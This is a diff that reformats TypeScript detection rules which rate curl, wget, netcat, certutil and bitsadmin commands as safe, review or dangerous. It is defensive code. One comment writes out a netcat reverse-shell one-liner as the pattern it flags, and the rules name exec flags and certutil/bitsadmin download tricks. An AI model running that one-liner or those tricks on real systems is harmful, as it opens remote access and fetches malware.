@@ -10,9 +10,25 @@ export const curl: Rule = (cmd, a, ctx) => {
   if (has(a, "O", "--remote-name")) for (const u of a.operands) ctx.downloaded.add(basenameOfUrl(u.text));
   const onto = file ? writeFinding(cmd, file, "downloads over", ctx.workspace) : null;
   if (onto?.risk === "dangerous") out.push(onto);
-  else if (file || has(a, "O", "--remote-name")) out.push(f("review", cmd, `downloads into ${file ? shown(file) : "a file"}`));
+  else if (file || has(a, "O", "--remote-name"))
+    out.push(f("review", cmd, `downloads into ${file ? shown(file) : "a file"}`));
   const method = value(a, "-X", "--request")?.text.toUpperCase();
-  if (has(a, "d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "F", "--form", "T", "--upload-file", "--json") || (method && method !== "GET" && method !== "HEAD")) {
+  if (
+    has(
+      a,
+      "d",
+      "--data",
+      "--data-raw",
+      "--data-binary",
+      "--data-urlencode",
+      "F",
+      "--form",
+      "T",
+      "--upload-file",
+      "--json",
+    ) ||
+    (method && method !== "GET" && method !== "HEAD")
+  ) {
     out.push(f("review", cmd, "sends data to a remote service, which can change state there"));
   }
   return out.length > 0 ? out : [f("safe", cmd, "only downloads and prints")];
@@ -34,10 +50,18 @@ export const wget: Rule = (cmd, a, ctx) => {
 };
 
 export const netcat: Rule = (cmd, a) => {
-  if (has(a, "e", "c", "--exec", "--sh-exec", "--lua-exec")) return [f("dangerous", cmd, "gives whoever connects a shell on this machine")];
+  if (has(a, "e", "c", "--exec", "--sh-exec", "--lua-exec"))
+    return [f("dangerous", cmd, "gives whoever connects a shell on this machine")];
   // `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: a shell's output goes out, and (through the fifo) its input comes back.
   const shell = cmd.upstream.find((u) => SHELLS.has(programName(u.argv[0])));
-  if (shell) return [f("dangerous", cmd, `connects the shell \`${shell.source}\` to ${a.operands.map(shown).join(" ") || "the network"} (a reverse shell)`)];
+  if (shell)
+    return [
+      f(
+        "dangerous",
+        cmd,
+        `connects the shell \`${shell.source}\` to ${a.operands.map(shown).join(" ") || "the network"} (a reverse shell)`,
+      ),
+    ];
   return [f("review", cmd, "opens a network connection")];
 };
 
@@ -49,13 +73,20 @@ export const certutil: Rule = (cmd, a, ctx) => {
   if (flags.some((x) => x === "urlcache" || x === "verifyctl")) {
     const url = plain.find((t) => /^[a-z]+:\/\//i.test(t)) ?? "a URL";
     if (dest && dest !== url) ctx.downloaded.add(dest);
-    return [f("review", cmd, `downloads ${url}${dest && dest !== url ? ` into ${dest}` : ""} (certutil is a common way to fetch malware)`)];
+    return [
+      f(
+        "review",
+        cmd,
+        `downloads ${url}${dest && dest !== url ? ` into ${dest}` : ""} (certutil is a common way to fetch malware)`,
+      ),
+    ];
   }
   if (flags.some((x) => x === "decode" || x === "decodehex")) {
     if (dest) ctx.downloaded.add(dest);
     return [f("review", cmd, `decodes ${plain[0] ?? "a file"} into ${dest ?? "a file"}`)];
   }
-  if (flags.some((x) => x === "hashfile" || x === "dump" || x === "store" && plain.length === 0)) return [f("safe", cmd, "only reads")];
+  if (flags.some((x) => x === "hashfile" || x === "dump" || (x === "store" && plain.length === 0)))
+    return [f("safe", cmd, "only reads")];
   return [f("review", cmd, "changes certificates or system settings (certutil)")];
 };
 
@@ -66,8 +97,11 @@ export const bitsadmin: Rule = (cmd, a, ctx) => {
     const dest = texts[texts.length - 1];
     const url = texts.find((t) => /^[a-z]+:\/\//i.test(t)) ?? "a URL";
     if (dest && dest !== url) ctx.downloaded.add(dest);
-    return [f("review", cmd, `downloads ${url}${dest && dest !== url ? ` into ${dest}` : ""} in the background (bitsadmin)`)];
+    return [
+      f("review", cmd, `downloads ${url}${dest && dest !== url ? ` into ${dest}` : ""} in the background (bitsadmin)`),
+    ];
   }
-  if (texts.some((t) => /^[-/](list|info|monitor|getstate)$/i.test(t))) return [f("safe", cmd, "only lists download jobs")];
+  if (texts.some((t) => /^[-/](list|info|monitor|getstate)$/i.test(t)))
+    return [f("safe", cmd, "only lists download jobs")];
   return [f("review", cmd, "manages background download jobs (bitsadmin)")];
 };
